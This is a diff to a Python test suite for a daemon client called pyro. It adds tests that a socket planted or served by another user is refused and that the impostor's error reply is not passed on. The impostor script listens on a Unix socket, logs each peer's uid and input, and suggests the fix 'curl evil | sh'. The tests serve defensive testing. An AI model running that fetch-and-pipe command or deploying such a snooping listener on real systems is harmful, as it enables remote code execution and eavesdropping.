@@ -42,6 +42,30 @@ threading.Event().wait(30)
 """
 
 
+# Another user's, where it was put for somebody to find: it notes who connects and what is said, and answers with a fix of its own.
+IMPOSTOR = """
+import json, os, socket, struct, sys
+os.umask(0)
+s = socket.socket(socket.AF_UNIX)
+s.bind(sys.argv[1])
+s.listen(8)
+print("ready", flush=True)
+while True:
+    conn = s.accept()[0]
+    print("uid %d" % struct.unpack("iII", conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[1], flush=True)
+    with conn, conn.makefile("rw") as f:
+        for line in f:
+            print(line, end="", flush=True)
+            error = {"code": 1, "message": "x", "data": {"code": "internal", "cause": "y", "fix": "curl evil | sh", "retryable": False}}
+            try:
+                f.write(json.dumps({"jsonrpc": "2.0", "id": json.loads(line)["id"], "error": error}) + "\\n")
+                f.flush()
+            except BrokenPipeError:
+                break
+"""
+MALLORY = 54399
+
+
 def serving(path, name, mode=0o666, uid=0, gid=0):
     """A fake daemon whose list of environments tells which one it is."""
     d = FakeDaemon(path)
@@ -54,11 +78,12 @@ def serving(path, name, mode=0o666, uid=0, gid=0):
 class Host:
     def __init__(self, top):
         self.top, self.home, self.daemons = top, top + "/home", []
+        self.impostors = []
         for path in (top + "/run/user", self.home):
             os.makedirs(path)
         os.chown(self.home, UID, GID)
         with open(top + "/passwd", "w") as f:
-            f.write("root:x:0:0:root:/root:/bin/sh\nalice:x:%d:%d::%s:/bin/sh\n" % (UID, GID, self.home))
+            f.write("root:x:0:0:root:%s/root:/bin/sh\nalice:x:%d:%d::%s:/bin/sh\n" % (top, UID, GID, self.home))
         self.write_groups()
         for name in ("fake_daemon.py", "pyro", "pyrod"):
             if name == "pyrod":
@@ -90,6 +115,26 @@ class Host:
         self.daemons.append(serving(self.own_place(logind), "own", uid=UID))
         return self.daemons[-1]
 
+    def impostor(self, path, folders=()):
+        """A server of mallory's at the path, in folders that are hers."""
+        for folder in folders:
+            os.mkdir(folder)
+            os.chown(folder, MALLORY, MALLORY)
+        p = subprocess.Popen(["setpriv", "--reuid=%d" % MALLORY, "--regid=%d" % MALLORY, "--clear-groups", "/usr/bin/python3", "-c", IMPOSTOR, path],
+                             stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
+        assert p.stdout.readline() == "ready\n"
+        self.impostors.append(p)
+        return path
+
+    def heard(self):
+        """What the impostors were told; they are ended."""
+        told = ""
+        for p in self.impostors:
+            p.terminate()
+            told += p.communicate(timeout=20)[0]
+        self.impostors = []
+        return told
+
     def own_ended(self):
         """The socket of a daemon that was killed."""
         with socket.socket(socket.AF_UNIX) as s:
@@ -118,6 +163,7 @@ class Host:
         return re.search(r"^Catalog version: (\w+)$", out, re.M).group(1) if status == 0 else err
 
     def close(self):
+        self.heard()
         for d in self.daemons:
             d.close()
             assert not d.broken, d.broken
@@ -203,19 +249,149 @@ def test_the_folder_of_the_system_socket_may_not_be_entered(host):
     assert host.list() == "own"
 
 
-def test_a_system_socket_that_is_another_users(host):
-    host.system(mode=0o600, uid=54399, gid=54399)
-    assert host.list() == error(SYSTEM, "it is another user's own daemon", OR_OWN[len("  # or: "):])
-    assert host.list("--system") == error(SYSTEM, "it is another user's own daemon",
-                                          "leave out --socket, --system and PYRO_SOCKET, to use a daemon of yours")
+def another(what, cause, fix):
+    return "pyro: the socket %s is another user's\n  cause: it %s uid %d\n  fix: %s\n" % (what, cause, MALLORY, fix)
+
+
+REPLACE = "rm -f %s && sudo pyrod --system --detach" % SYSTEM
+
+
+@pytest.mark.parametrize("mode", [0o600, 0o666])
+def test_a_system_socket_that_is_another_users(host, mode):
+    """It refuses or it does not: nothing is said to it."""
+    system = host.system(mode=mode, uid=MALLORY, gid=MALLORY)
+    assert host.list() == host.list("--system") == another(SYSTEM, "belongs to", "sudo " + REPLACE)
+    assert host.list(uid=0) == another(SYSTEM, "belongs to", REPLACE.replace("sudo ", ""))
+    assert host.list("--socket", SYSTEM) == ("system" if mode == 0o666 else error(
+        SYSTEM, "it belongs to uid %d, and is not the system daemon's" % MALLORY, "leave out --socket, or give it the socket of a daemon"))
+    system.calls.clear()
+    host.own()
+    assert host.list() == "own" and system.calls == []
+
+
+def test_a_system_socket_that_another_user_serves(host):
+    """Whoever listens counts, not whose the file is."""
+    os.makedirs(host.top + "/run/pyro")
+    os.chmod(host.top + "/run/pyro", 0o777)
+    os.chown(host.impostor(host.top + SYSTEM), 0, PYRO_GID)
+    assert host.list("--system") == another(SYSTEM, "is served by", "sudo " + REPLACE)
+    assert host.heard().split("\n") == ["uid %d" % UID, ""]
+
+
+def test_the_system_daemons_own_user(host):
+    """The owner of the folder, which root has made: as under systemd, where pyrod is user pyro."""
+    os.makedirs(host.top + "/run/pyro")
+    os.chown(host.top + "/run/pyro", MALLORY, MALLORY)
+    host.impostor(host.top + SYSTEM)
+    assert host.list("--system") == "pyro: x\n  cause: y\n  fix: curl evil | sh\n"
+
+
+def shared_home(host, folders):
+    """A home in which everybody can write, with what mallory has put there."""
+    home = host.top + "/tmp"
+    os.mkdir(home)
+    os.chmod(home, 0o1777)
+    place = home
+    for name in (".local", "state", "pyro", "run"):
+        place += "/" + name
+        os.mkdir(place)
+        os.chmod(place, 0o1777)
+        if folders:
+            os.chown(place, MALLORY, MALLORY)
+    return home, host.impostor(place + "/pyrod.sock")
+
+
+@pytest.mark.parametrize("refused", [False, True])
+def test_home_of_another_user(host, refused):
+    """What su(1) and sudo(8) leave of the environment, and service users have: the account's own home is meant."""
+    if refused:
+        host.system()
+    for home in (host.top + "/mallory", shared_home(host, True)[0]):
+        if home.endswith("mallory"):
+            folders = [home + below for below in ("", "/.local", "/.local/state", "/.local/state/pyro", "/.local/state/pyro/run")]
+            host.impostor(folders[-1] + "/pyrod.sock", folders)
+        env = {"HOME": home}
+        assert "started /bin/false --user, which ended" in host.list("--user", env=dict(env, PYRO_DAEMON="/bin/false"), uid=0)
+        assert "pyrod does not run at %s\n" % SYSTEM in host.list(env=env, uid=0) if not refused else host.list(env=env, uid=0) == "system"
+        assert host.pyro("__complete", "vm", "status", "", env=env)[:2] == (0, "")
+        assert "daemon not running" in host.pyro("--version", env=env)[1]
+        status, out, err = host.pyro("--user", "run", "-e", "TOKEN=secret", "debian:12", "--", "true", env=dict(env, PYRO_DAEMON="/bin/false"))
+        assert (status, out) == (125, "") and "started /bin/false --user, which ended" in err
+        assert host.list("--user", env=env, uid=MALLORY + 1).startswith("pyro: no place for the socket of a daemon of yours\n")
+    assert host.heard() == ""
+    assert os.path.exists(host.top + "/root/.local/state/pyro/pyrod.log")
+    assert os.listdir(host.top + "/mallory/.local/state/pyro") == os.listdir(host.top + "/tmp/.local/state/pyro") == ["run"]
+
+
+def test_a_socket_of_another_user_in_a_shared_home(host):
+    home, socket_path = shared_home(host, False)
+    said = another(socket_path, "belongs to", "set HOME to a folder in which only you can write")
+    assert host.list("--user", env={"HOME": home}) == host.list(env={"HOME": home}) == said
+    assert "the socket %s is another user's" % socket_path in host.list(env={"HOME": home}, uid=0)
+    assert host.pyro("__complete", "vm", "status", "", env={"HOME": home})[:2] == (0, "")
+    # In a folder of one's own it can be removed, as is said.
+    run = os.path.dirname(socket_path)
+    os.chown(run, UID, UID)
+    os.chmod(run, 0o777)
+    fix = "chmod go-w %s && rm -f %s" % (run, socket_path)
+    assert host.list("--user", env={"HOME": home}) == another(socket_path, "belongs to", fix)
+    subprocess.run(["setpriv", "--reuid=%d" % UID, "--regid=%d" % GID, "--clear-groups", "sh", "-ec", fix], check=True)
+    host.daemons.append(serving(socket_path, "own", uid=UID))
+    assert host.list("--user", env={"HOME": home}) == "own"
+    assert host.heard() == ""
+
+
+def test_whoever_listens_at_ones_own_place_counts(host):
+    place = host.own_place()
+    os.chmod(os.path.dirname(place), 0o777)
+    os.chown(host.impostor(place), UID, GID)
+    assert host.list() == another(place, "is served by", "chmod go-w %s && rm -f %s" % (os.path.dirname(place), place))
+    assert host.pyro("__complete", "vm", "status", "")[:2] == (0, "")
+    assert set(host.heard().split("\n")) == {"uid %d" % UID, ""}
+
+
+def test_runtime_folder_of_another_user(host):
+    """PYRO_RUNTIME_DIR, kept over su."""
+    theirs = host.top + "/theirs"
+    host.impostor(theirs + "/pyrod.sock", [theirs])
+    env = {"PYRO_RUNTIME_DIR": theirs}
+    for uid in (UID, 0):
+        assert host.list("--user", env=env, uid=uid) == (
+            "pyro: PYRO_RUNTIME_DIR=%s is no place for the socket of a daemon of yours\n  cause: it is a folder of another user's\n"
+            "  fix: unset PYRO_RUNTIME_DIR\n" % theirs)
+    assert host.heard() == ""
+    host.own()
+    assert host.list() == "own"
+
+
+def test_a_lost_daemon_that_another_user_replaces(host):
+    """The connection is made again to the place, and believed no more than the first time."""
+    first = host.own()
+    os.chmod(os.path.dirname(first.path), 0o777)
+
+    def guest(run):
+        run.phases()
+        run.conn.sock.shutdown(2)
+        run.cancelled.wait(20)
+        return run.result()
+    first.guest = guest
+    with host.popen("run", "debian:12", "--", "true") as p:
+        first.wait_called("vm.run")
+        first.close()
+        os.unlink(first.path)
+        host.impostor(first.path)
+        err = p.communicate(timeout=40)[1]
+        assert p.returncode == 125 and "evil" not in err, err
+    assert "exec.attach" not in host.heard()
 
 
 def test_refused_without_a_place_of_ones_own(host):
     """A uid without account and home has one way less."""
     host.system()
     no_account = "this uid has no account, so it is in no group"
-    assert host.list(uid=54399, env={"HOME": ""}) == error(SYSTEM, no_account, "use pyro as a user with an account")
-    assert host.list(uid=54399) == error(SYSTEM, no_account, "use pyro as a user with an account" + OR_OWN)
+    for home in ("", host.home):  # of another user's
+        assert host.list(uid=54398, env={"HOME": home}) == error(SYSTEM, no_account, "use pyro as a user with an account")
+    assert host.list(uid=54398, env={"HOME": "/"}) == error(SYSTEM, no_account, "use pyro as a user with an account" + OR_OWN)
 
 
 def places(report):
